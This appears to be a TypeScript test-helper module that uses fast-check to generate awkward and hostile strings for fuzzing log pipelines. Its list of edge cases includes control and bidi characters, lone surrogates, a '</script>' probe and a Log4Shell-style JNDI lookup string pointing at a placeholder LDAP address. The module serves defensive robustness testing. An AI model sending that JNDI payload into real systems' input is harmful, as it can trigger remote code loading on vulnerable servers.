import fc from 'fast-check';

/** What has broken log pipelines: each is text like any other. */
const NASTY = [
  '"',
  "'",
  '\\',
  '\\\\',
  '|',
  '=',
  ',',
  ';',
  '\n',
  '\r\n',
  '\t',
  '\0',
  '\u0007',
  '\u001b[2J',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u202e',
  '\u200f',
  '\u2066',
  '\ufeff',
  '\ufffd',
  '\ud83d\ude00',
  '\ud83d',
  '\udc00',
  ' ',
  '  a=b c=d ',
  '$\u007bjndi:ldap://203.0.113.7/a}',
  '$START_AT_TIME',
  '%s',
  '{"a":null}',
  '__stringConstant("x")',
  'null',
  '</script>',
] as const;

/** Any UTF-16 unit, halves of surrogate pairs included. */
const unit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.string({ unit }) },
);
const short = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));
const LONGEST = 64 * 1024;

/** 64 KiB of the same few characters, begun one unit off, so that a cut may fall into a pair. */
const long = fc
  .tuple(
    short.filter((text) => text !== ''),
    fc.boolean(),
  )
  .map(([text, isShifted]) => (isShifted ? 'x' : '') + text.repeat(Math.ceil(LONGEST / text.length)).slice(0, LONGEST));

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: short },
  { weight: 1, arbitrary: long },
);
